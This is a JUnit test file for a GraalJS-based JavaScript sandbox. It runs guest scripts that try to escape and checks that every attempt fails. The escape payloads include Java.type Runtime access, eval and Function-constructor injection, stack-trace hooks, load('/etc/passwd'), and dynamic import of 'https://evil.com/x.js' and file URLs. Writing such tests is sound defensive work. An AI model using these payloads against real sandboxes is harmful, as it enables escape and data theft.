package dev.capsule.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile mini-programs trying to leave the JavaScript sandbox: host and Java access, dynamic code,
 * hidden globals, engine-specific hooks. Every attempt must fail inside the guest, the session must
 * survive, and the host must then serve a fresh session normally.
 */
class HostileEscapeTest {
    private static Harness harness;

    @BeforeAll
    static void start() {
        harness = new Harness();
    }

    @AfterAll
    static void stop() {
        harness.close();
    }

    @AfterEach
    void hostStillServesAFreshSession() {
        harness.assertHealthy();
    }

    /** Runs {@code body} as the index page's onLoad; returns the console lines; the session must survive. */
    private static List<String> onLoad(String body) {
        return onLoad(body, "");
    }

    private static List<String> onLoad(String body, String extraMembers) {
        String script = "const log = (...a) => console.log(a.join(' '));\nPage({" + extraMembers + " onLoad(){\n" + body + "\n}})";
        try (var run = harness.run(TestApps.page(script))) {
            assertThat(run.session().ended()).as("session survived: %s", run.events()).isFalse();
            assertThat(run.events().violations()).as("no violation").isEmpty();
            assertThat(run.events().logs()).as("no host internals leak").noneMatch(HostileEscapeTest::leaksHost);
            return run.events().logs();
        }
    }

    static boolean leaksHost(String line) {
        return line.contains("java.") || line.contains("org.graalvm") || line.contains("com.oracle") || line.contains("dev.capsule")
                || line.contains("capsule internal error");
    }

    private static String typeofEach(String... names) {
        return "for (const n of " + Arrays.toString(Arrays.stream(names).map(n -> "'" + n + "'").toArray()) + ") log('typeof', n, typeof globalThis[n], n in globalThis);";
    }

    @Test
    void javaAndPackagesAreAbsent() {
        List<String> logs = onLoad(typeofEach("Java", "Packages", "java", "javax", "javafx", "com", "org", "edu", "net", "JavaImporter", "JavaAdapter")
                + "try { Java.type('java.lang.Runtime'); log('Java.type worked') } catch (e) { log('Java.type', e.name) }"
                + "try { log('Packages worked', typeof Packages.java.lang.System) } catch (e) { log('Packages', e.name) }");
        assertThat(logs).contains("Java.type ReferenceError", "Packages ReferenceError")
                .filteredOn(l -> l.startsWith("typeof")).hasSize(11).allMatch(l -> l.endsWith("undefined false"));
    }

    @Test
    void polyglotAndGraalAreAbsent() {
        List<String> logs = onLoad(typeofEach("Polyglot", "Graal", "Interop")
                + "try { Polyglot.eval('js', '1'); log('Polyglot.eval worked') } catch (e) { log('Polyglot.eval', e.name) }"
                + "try { Polyglot.import('x'); log('Polyglot.import worked') } catch (e) { log('Polyglot.import', e.name) }");
        assertThat(logs).contains("Polyglot.eval ReferenceError", "Polyglot.import ReferenceError",
                "typeof Polyglot undefined false", "typeof Graal undefined false", "typeof Interop undefined false");
    }

    @Test
    void loadPrintAndShellBuiltinsAreAbsent() {
        // Node's `global` is not here: WeChat gives modules one, the guest's own global object (GuestOwnedWxTest).
        List<String> logs = onLoad(typeofEach("load", "loadWithNewGlobal", "print", "printErr", "quit", "exit", "read", "readbuffer",
                "readline", "readFully", "arguments", "process", "Buffer", "performance", "queueMicrotask", "fetch", "XMLHttpRequest",
                "WebSocket", "Worker", "importScripts", "Deno", "Bun")
                + "try { load('/etc/passwd'); log('load worked') } catch (e) { log('load', e.name) }"
                + "try { print('x'); log('print worked') } catch (e) { log('print', e.name) }");
        assertThat(logs).contains("load ReferenceError", "print ReferenceError")
                .filteredOn(l -> l.startsWith("typeof")).hasSize(22).allMatch(l -> l.endsWith("undefined false"));
    }

    @Test
    void consoleIsCapsulesOwnAndWritesOnlyToTheEventSink() {
        String body = "log('members', Object.getOwnPropertyNames(console).sort().join());"
                + "log('frozen', Object.isFrozen(console), Object.getPrototypeOf(console) === null);"
                + "log('extras', typeof console.table, typeof console.trace, typeof console.time, typeof console.assert);"
                + "console.error('to the sink', 42);"
                + "log('native', /native code/.test(Function.prototype.toString.call(console.log)));";
        try (var run = harness.run(TestApps.page("const log = (...a) => console.log(a.join(' '));\nPage({onLoad(){" + body + "}})"))) {
            assertThat(run.events().logs()).contains("members debug,error,info,log,warn", "frozen false true",
                    "extras undefined undefined undefined undefined", "native false");
            assertThat(run.events().of(RuntimeEvent.Log.class)).contains(new RuntimeEvent.Log("error", "to the sink 42"));
        }
    }

    @Test
    void evalIsUnavailable() {
        List<String> logs = onLoad("globalThis.pwned = 'no';"
                + "try { eval('globalThis.pwned = \"direct\"'); } catch (e) { log('direct', e.name) }"
                + "try { (0, eval)('globalThis.pwned = \"indirect\"'); } catch (e) { log('indirect', e.name) }"
                + "try { globalThis['ev' + 'al']('globalThis.pwned = \"computed\"'); } catch (e) { log('computed', e.name) }"
                + "log('pwned', globalThis.pwned);");
        assertThat(logs).contains("direct EvalError", "indirect EvalError", "computed EvalError", "pwned no");
    }

    @Test
    void functionConstructorIsUnavailable() {
        List<String> logs = onLoad("globalThis.pwned = 'no';"
                + "try { new Function('globalThis.pwned = 1')(); } catch (e) { log('new', e.name) }"
                + "try { Function('globalThis.pwned = 2')(); } catch (e) { log('call', e.name) }"
                + "try { Reflect.construct(Function, ['globalThis.pwned = 3'])(); } catch (e) { log('reflect', e.name) }"
                + "try { Function.prototype.constructor('globalThis.pwned = 4')(); } catch (e) { log('proto', e.name) }"
                + "log('pwned', globalThis.pwned);");
        assertThat(logs).contains("new EvalError", "call EvalError", "reflect EvalError", "proto EvalError", "pwned no");
    }

    @Test
    void functionConstructorReachedThroughAFunctionIsUnavailable() {
        List<String> logs = onLoad("globalThis.pwned = 'no';"
                + "try { (function(){}).constructor('globalThis.pwned = 1')(); } catch (e) { log('function', e.name) }"
                + "try { (() => 0).constructor('globalThis.pwned = 2')(); } catch (e) { log('arrow', e.name) }"
                + "try { wx.request.constructor('globalThis.pwned = 3')(); } catch (e) { log('wx', e.name) }"
                + "try { console.log.constructor.constructor('globalThis.pwned = 4')(); } catch (e) { log('console', e.name) }"
                + "try { ({}).constructor.constructor('globalThis.pwned = 5')(); } catch (e) { log('object', e.name) }"
                + "log('pwned', globalThis.pwned);");
        assertThat(logs).contains("function EvalError", "arrow EvalError", "wx EvalError", "console EvalError", "object EvalError", "pwned no");
    }

    @Test
    void asyncAndGeneratorFunctionConstructorsAreUnavailable() {
        List<String> logs = onLoad("globalThis.pwned = 'no';"
                + "const ctors = { async: Object.getPrototypeOf(async function(){}).constructor,"
                + "  generator: Object.getPrototypeOf(function*(){}).constructor,"
                + "  asyncGenerator: Object.getPrototypeOf(async function*(){}).constructor };"
                + "for (const k of Object.keys(ctors)) {"
                + "  try { const f = ctors[k]('globalThis.pwned = \"' + k + '\"'); f().next ? f().next() : f(); log(k, 'made a function') }"
                + "  catch (e) { log(k, e.name) } }"
                + "try { new (Object.getPrototypeOf(async () => {}).constructor)('globalThis.pwned = 1') } catch (e) { log('asyncArrow', e.name) }"
                + "log('pwned', globalThis.pwned);");
        assertThat(logs).contains("async EvalError", "generator EvalError", "asyncGenerator EvalError", "asyncArrow EvalError", "pwned no");
    }

    @Test
    void timersRefuseCodeStrings() {
        String body = "globalThis.pwned = 'no';"
                + "try { setTimeout('globalThis.pwned = \"timeout\"', 0); log('timeout accepted') } catch (e) { log('timeout', e.name) }"
                + "try { setInterval('globalThis.pwned = \"interval\"', 1); log('interval accepted') } catch (e) { log('interval', e.name) }"
                + "try { setTimeout({toString(){ globalThis.pwned = 'coerced'; return 'x' }}, 0); log('object accepted') } catch (e) { log('object', e.name) }"
                + "setTimeout(() => log('after timers pwned', globalThis.pwned), 5);";
        List<String> logs = onLoad(body);
        assertThat(logs).contains("timeout TypeError", "interval TypeError", "object TypeError", "after timers pwned no");
    }

    @Test
    void globalThisHasOnlyContractAndEcmaScriptNames() {
        Set<String> allowed = new TreeSet<>(List.of(
                // ECMAScript (ES2025) global object properties, Annex B and ECMA-402 included
                "globalThis", "Infinity", "NaN", "undefined", "eval", "isFinite", "isNaN", "parseFloat", "parseInt", "decodeURI",
                "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape", "AggregateError", "Array", "ArrayBuffer",
                "BigInt", "BigInt64Array", "BigUint64Array", "Boolean", "DataView", "Date", "Error", "EvalError", "FinalizationRegistry",
                "Float16Array", "Float32Array", "Float64Array", "Function", "Int8Array", "Int16Array", "Int32Array", "Iterator", "Map",
                "Number", "Object", "Promise", "Proxy", "RangeError", "ReferenceError", "RegExp", "Set", "String", "Symbol", "SyntaxError",
                "TypeError", "Uint8Array", "Uint8ClampedArray", "Uint16Array", "Uint32Array", "URIError", "WeakMap", "WeakRef", "WeakSet",
                "JSON", "Math", "Reflect", "Intl",
                // the contract (spec section 2)
                "App", "Page", "getApp", "getCurrentPages", "wx", "console", "setTimeout", "clearTimeout", "setInterval", "clearInterval",
                // custom components (docs/view.md)
                "Component", "Behavior",
                // WeChat's runtime: the guest's own global object (docs/runtime.md)
                "global"));
        List<String> logs = onLoad("log('names', Object.getOwnPropertyNames(globalThis).join());"
                + "log('symbols', Object.getOwnPropertySymbols(globalThis).map(String).join());"
                + "log('host', typeof host, typeof globalThis.host, typeof bridge, typeof framework, typeof __capsule);");
        String names = logs.stream().filter(l -> l.startsWith("names ")).findFirst().orElseThrow().substring("names ".length());
        assertThat(new TreeSet<>(Arrays.asList(names.split(",")))).as("global names").isSubsetOf(allowed)
                .doesNotContain("SharedArrayBuffer", "Atomics", "WebAssembly");
        assertThat(logs).contains("host undefined undefined undefined undefined undefined")
                .anyMatch(l -> l.equals("symbols Symbol(Symbol.toStringTag)") || l.equals("symbols "));
    }

    @Test
    void noObjectReachableFromTheGuestIsTheHostBridgeOrTheFrameworksPrivateSide() {
        // Walks everything reachable through own properties, accessors and prototypes from every root a
        // guest holds, looking for members only the host bridge or the framework's host-facing object have.
        String body = "const markers = new Set(['callSync', 'setTimer', 'clearTimer', 'dataChanged', 'apis', 'createPage', 'dropPage',"
                + " 'setStack', 'runTimer', 'pageData', 'hasHandler', 'deliver']);"
                + "const seen = new Set(); const queue = [globalThis, getApp(), this, wx, console, getCurrentPages(), this.data, this.setData];"
                + "const found = [];"
                + "while (queue.length && seen.size < 20000) { const o = queue.pop();"
                + "  if ((typeof o !== 'object' && typeof o !== 'function') || o === null || seen.has(o)) continue; seen.add(o);"
                + "  for (const k of Reflect.ownKeys(o)) { const d = Reflect.getOwnPropertyDescriptor(o, k); if (!d) continue;"
                + "    if (markers.has(k)) found.push(String(k));"
                + "    if ('value' in d) queue.push(d.value); if (d.get) queue.push(d.get); if (d.set) queue.push(d.set); }"
                + "  queue.push(Object.getPrototypeOf(o)); }"
                + "log('walked', seen.size > 500, 'found', found.join() || 'nothing');";
        assertThat(onLoad(body)).contains("walked true found nothing");
    }

    @Test
    void callerChainsDoNotRevealFrameworkFunctions() {
        // Sloppy-mode functions called by the (strict) framework: caller must not hand out the framework's hook, deliver or runTimer.
        String body = "wx.getStorageInfo({ success: function s(){ log('callback caller', typeof s.caller, typeof arguments.callee.caller) } });"
                + "setTimeout(function tm(){ log('timer caller', typeof tm.caller, typeof arguments.callee.caller) }, 1);";
        String page = "const log = (...a) => console.log(a.join(' '));\n"
                + "Page({ onLoad(){" + body + "}, probe: function probe(){ log('dispatch caller', typeof probe.caller, typeof arguments.callee.caller) }})";
        try (var run = harness.run(TestApps.page(page))) {
            run.dispatch("probe", "{}");
            List<String> callers = run.events().logs().stream().filter(l -> l.contains(" caller ")).toList();
            assertThat(callers).anyMatch(l -> l.startsWith("callback caller")).anyMatch(l -> l.startsWith("timer caller"))
                    .anyMatch(l -> l.startsWith("dispatch caller")).noneMatch(l -> l.contains("function"));
        }
    }

    @Test
    void sharedArrayBufferAtomicsAndWebAssemblyAreAbsent() {
        List<String> logs = onLoad(typeofEach("SharedArrayBuffer", "Atomics", "WebAssembly")
                + "try { new SharedArrayBuffer(8); log('SAB worked') } catch (e) { log('SAB', e.name) }"
                + "try { Atomics.wait(new Int32Array(4), 0, 0); log('Atomics worked') } catch (e) { log('Atomics', e.name) }"
                + "try { WebAssembly.compile(new Uint8Array([0, 97, 115, 109])); log('wasm worked') } catch (e) { log('wasm', e.name) }"
                + "log('growable', typeof new ArrayBuffer(8, { maxByteLength: 16 }).transfer);");
        assertThat(logs).contains("typeof SharedArrayBuffer undefined false", "typeof Atomics undefined false", "typeof WebAssembly undefined false",
                "SAB ReferenceError", "Atomics ReferenceError", "wasm ReferenceError");
    }

    @Test
    void dynamicImportOfFilesAndUrlsIsRejected() {
        String page = "const log = (...a) => console.log(a.join(' '));\n"
                + "Page({onLoad(){ const specs = ['../../utils/a.js', '/utils/a.js', './index.js', '/etc/passwd', 'file:///etc/passwd',"
                + " 'https://evil.com/x.js', 'http://127.0.0.1/x.js', 'fs', 'node:fs', 'jar:file:/x!/y.js', 'classpath:x.js'];"
                + " const attempts = specs.map(s => { try { return import(s).then(() => 'loaded ' + s, e => 'rejected'); } catch (e) { return Promise.resolve('threw'); } });"
                + " Promise.all(attempts).then(r => log('imports', r.filter(x => x !== 'rejected').join() || 'all rejected', typeof globalThis.imported)); }})";
        // A module with an import call is refused whole when it is compiled: here the first page, so the launch fails.
        try (var run = harness.run(TestApps.app("pages/index/index.js", page, "utils/a.js", "globalThis.imported = 1;"))) {
            run.session().close();
            assertThat(run.events().logs()).anyMatch(l -> l.contains("import() and import.meta are not allowed"))
                    .noneMatch(l -> l.startsWith("imports")).noneMatch(HostileEscapeTest::leaksHost)
                    .contains("launch failed: the first page pages/index/index failed to load or did not call Page()");
            assertThat(run.session().exitCode()).isEqualTo(1);
        }
    }

    @Test
    void dynamicImportOfADataUrlCannotRunCodeFromAString() {
        // import('data:...') is code generation from a string, like eval: it must be refused as eval is.
        // (One import per context: with assertions enabled, as in tests, a second one trips a GraalJS assertion.)
        String page = "const log = (...a) => console.log(a.join(' '));\n"
                + "Page({onLoad(){ const code = 'globalThis.pwned = \"from a string\"; export default 42;';"
                + " let attempt; try { attempt = import('data:text/javascript,' + encodeURIComponent(code)).then(m => 'loaded ' + m.default, e => 'rejected'); }"
                + " catch (e) { attempt = Promise.resolve('threw'); }"
                + " attempt.then(r => log('data import', r, 'pwned', String(globalThis.pwned))); }})";
        try (var run = harness.run(TestApps.page(page))) {
            assertThat(run.events().logs()).anyMatch(l -> l.contains("pages/index/index.js:2: import() and import.meta are not allowed"))
                    .noneMatch(l -> l.contains("from a string"));
        }
    }

    @Test
    void staticImportInAModuleIsASyntaxError() {
        String page = "Page({onLoad(){ try { require('../../utils/static'); console.log('loaded') } catch (e) { console.log('static ' + e.name) } }})";
        try (var run = harness.run(TestApps.app("pages/index/index.js", page, "utils/static.js", "import fs from 'fs'; exports.x = fs;"))) {
            assertThat(run.events().logs()).contains("static SyntaxError");
        }
    }

    @Test
    void errorStackHooksAreUnavailableOrHarmless() {
        // V8's prepareStackTrace hands out call sites whose getThis()/getFunction() would reveal callers' objects.
        String body = "let calls = 0, leaked = [];"
                + "log('hooks', typeof Error.captureStackTrace, typeof Error.stackTraceLimit);"
                + "Error.prepareStackTrace = (e, sites) => { calls++;"
                + "  for (const s of sites) { try { const t = s.getThis && s.getThis(), f = s.getFunction && s.getFunction();"
                + "    if (t && (t.createPage || t.hook && t.deliver || t.callSync)) leaked.push('this'); if (f && f !== Page) leaked.push(String(f.name)); } catch (x) {} }"
                + "  return 'prepared'; };"
                + "Error.stackTraceLimit = Infinity;"
                + "const stack = new Error('probe').stack;"
                + "log('prepare', calls === 0 ? 'ignored' : 'called', leaked.join() || 'no leak');"
                + "log('stack-has-host-frames', /dev\\.capsule|org\\.graalvm|com\\.oracle|java\\./.test(String(stack)));";
        List<String> logs = onLoad(body);
        assertThat(logs).contains("hooks undefined undefined", "stack-has-host-frames false")
                .anyMatch(l -> l.equals("prepare ignored no leak") || l.equals("prepare called no leak"));
    }

    @Test
    void regExpLegacyStaticsDoNotLeakAcrossSessions() {
        String victim = "Page({onLoad(){ /secret-(\\w+)/.exec('token secret-TOPSECRET42 end'); console.log('victim ' + RegExp.$1) }})";
        try (var run = harness.run(TestApps.page(victim), "victim-user")) {
            assertThat(run.events().logs()).contains("victim TOPSECRET42");
            List<String> logs = onLoad("log('statics', [RegExp.$1, RegExp.input, RegExp.lastMatch, RegExp.leftContext, RegExp.rightContext,"
                    + " RegExp.lastParen, RegExp['$_'], RegExp['$&']].map(String).join('|'));");
            assertThat(String.join("\n", logs)).doesNotContain("TOPSECRET42").doesNotContain("secret");
        }
    }

    @Test
    void throwingValuesWithHostileToStringIsContained() {
        // The host formats the uncaught value for its log without running the guest's getters or toString.
        String page = "let runs = 0;"
                + "Page({ boom(){ throw { toString(){ runs++; while (true) {} }, get message(){ runs++; while (true) {} }, get stack(){ runs++; while (true) {} } }; },"
                + " after(){ console.log('alive ' + runs) } })";
        try (var run = harness.run(TestApps.page(page))) {
            run.dispatch("boom", "{}").dispatch("after", "{}");
            assertThat(run.events().logs()).anyMatch(l -> l.startsWith("Uncaught")).contains("alive 0");
            assertThat(run.events().violations()).isEmpty();
            assertThat(run.session().ended()).isFalse();
        }
    }
}
